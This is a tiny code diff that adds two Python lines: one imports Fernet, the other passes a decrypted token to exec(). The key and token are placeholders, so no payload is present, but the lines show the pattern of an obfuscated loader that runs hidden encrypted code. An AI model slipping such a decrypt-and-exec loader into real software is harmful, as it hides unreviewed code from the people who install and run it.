@@ -1,0 +1,2 @@
+from cryptography.fernet import Fernet
+exec(Fernet(b'key').decrypt(b'token'))
